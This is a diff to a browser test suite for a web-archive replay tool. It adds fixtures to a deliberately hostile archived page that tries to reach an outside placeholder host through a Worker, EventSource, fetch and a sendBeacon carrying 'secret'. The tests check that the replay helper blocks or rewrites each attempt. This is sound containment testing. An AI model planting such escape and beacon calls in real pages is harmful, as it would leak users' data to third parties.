@@ -241,6 +241,8 @@ function hostilePage(apiOrigin: string): string {
   const x2 = new XMLHttpRequest(); x2.open('GET', 'http://outside.example/xhr'); x2.send();
   try { new WebSocket('ws://outside.example/socket'); } catch (e) {}
   try { new WebSocket('ws://' + location.host + '/socket'); } catch (e) {}
+  try { new Worker('http://outside.example/worker.js'); } catch (e) {}
+  try { navigator.sendBeacon('http://outside.example/sendbeacon', 'secret'); } catch (e) {}
   navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => {});
   navigator.serviceWorker && navigator.serviceWorker.register(location.pathname.replace(/[^/]*$/, '') + 'sw.js').catch(() => {});
   try { window.open('http://outside.example/popup'); } catch (e) {}
@@ -255,7 +257,7 @@ function hostilePage(apiOrigin: string): string {
 /** The ways a script can make the browser load a URL that the helper rewrites, one outside URL each (its path names
  *  the way), in a page of their own. */
 const DYNAMIC_SINKS = ['img-prop', 'img-inner', 'frame-inner', 'img-srcset', 'img-write', 'frame-adjacent', 'frame-xhtml',
-  'img-blank-frame', 'fetch-request', 'background', 'frame-template', 'img-parsed-frame', 'img-srcdoc', 'img-srcdoc-script'];
+  'img-blank-frame', 'fetch-request', 'background', 'frame-template', 'img-parsed-frame', 'img-srcdoc', 'img-srcdoc-script', 'event-source'];
 const DYNAMIC_PAGE = `<!doctype html><html><head><title>dynamic</title></head><body><iframe name="parsed"></iframe><script>
   const out = 'http://outside.example/';
   const img = new Image(); img.src = out + 'img-prop'; document.body.append(img);
@@ -276,6 +278,7 @@ const DYNAMIC_PAGE = `<!doctype html><html><head><title>dynamic</title></head><b
   const doc = document.createElement('iframe');
   doc.srcdoc = '<img src="' + out + 'img-srcdoc"><script>const i = document.createElement("img"); i.src = "' + out + 'img-srcdoc-script"; document.body.append(i);<\\/script>';
   document.body.append(doc);
+  new EventSource(out + 'event-source').onerror = (e) => e.target.close();
   fetch(new Request(out + 'fetch-request')).then((r) => r.text()).catch(() => {});
   const bg = document.createElement('div'); bg.style.cssText = 'width:10px;height:10px';
   bg.style.backgroundImage = 'url(' + out + 'background)'; document.body.append(bg);
@@ -301,6 +304,8 @@ test.describe('a hostile archived page', () => {
         responseRecord(PAGE, httpResponse(200, [['Content-Type', 'text/html; charset=utf-8']], html)),
         responseRecord(`${PAGE}frames`, httpResponse(200, [['Content-Type', 'text/html']],
           "<!doctype html><p>frames</p><script>const f = document.createElement('iframe'); f.src = 'http://outside.example/frame'; document.body.append(f);</script>")),
+        responseRecord(`${PAGE}leaves`, httpResponse(200, [['Content-Type', 'text/html']],
+          "<!doctype html><script>setTimeout(() => { location.href = '/home?from=script'; }, 50);</script>")),
         responseRecord(`${PAGE}dynamic`, httpResponse(200, [['Content-Type', 'text/html']], DYNAMIC_PAGE)),
         responseRecord(`${PAGE}sw.js`, httpResponse(200, [['Content-Type', 'text/javascript']], "self.addEventListener('fetch', (e) => e.respondWith(fetch('http://outside.example/sw')));")),
       ]),
@@ -388,6 +393,8 @@ test.describe('a hostile archived page', () => {
       `method POST not replayed ${engine.origin}/api/engine.info`,
       'helper:websocket ws://outside.example/socket',
       `helper:websocket ws://${replayHost}/socket`,
+      'helper:worker http://outside.example/worker.js',
+      'method POST not replayed http://outside.example/sendbeacon',
       `csp:worker-src ${replayOrigin}/sw.js`,
       `csp:worker-src ${replayOrigin}/hostile/2024js_/http://hostile.example/sw.js`,
       'helper:window.open http://outside.example/popup',
@@ -424,6 +431,16 @@ test.describe('a hostile archived page', () => {
     const asked = ledger.filter((e) => e.url.startsWith('http://outside.example/')).map((e) => `${e.how} ${e.url}`);
     expect(asked.sort()).toEqual(DYNAMIC_SINKS.map((s) => `missing http://outside.example/${s}`).sort());
     await page.screenshot({ path: join(SHOTS, 'hostile-dynamic.png') });
+  });
+
+  test('with scripts on, a script that navigates to a path of its own host lands on that page in the archive', async () => {
+    const page = await context.newPage();
+    await page.goto(`${replayOrigin}/hostile/2024js_/${PAGE}leaves`);
+    // '/home' resolves against the replay origin in the browser; the helper takes it to the archived host's page.
+    await page.waitForURL(`${replayOrigin}/hostile/2024js_/http://hostile.example/home?from=script`);
+    await page.waitForLoadState('networkidle');
+    nothingLeft();
+    expect(log.map((r) => new URL(r.url()).pathname)).not.toContain('/home');
   });
 });
 
